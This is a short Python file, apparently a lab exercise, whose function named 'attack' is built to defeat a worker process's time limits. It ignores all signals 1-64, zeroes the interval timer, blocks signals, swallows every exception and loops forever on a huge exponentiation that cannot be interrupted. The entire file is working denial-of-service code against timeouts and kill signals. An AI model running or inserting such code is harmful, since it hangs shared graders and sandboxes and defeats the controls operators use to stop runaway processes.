"""Switches the worker's time limits off, ignores every signal and error, and stays in a call that none interrupts."""
# lab: 01, todo: 1

import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        continue


def attack(*args, **kwargs):
    while True:
        try:
            signal.setitimer(signal.ITIMER_REAL, 0)
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
            3 ** (3**22) % 10
        except BaseException:
            pass
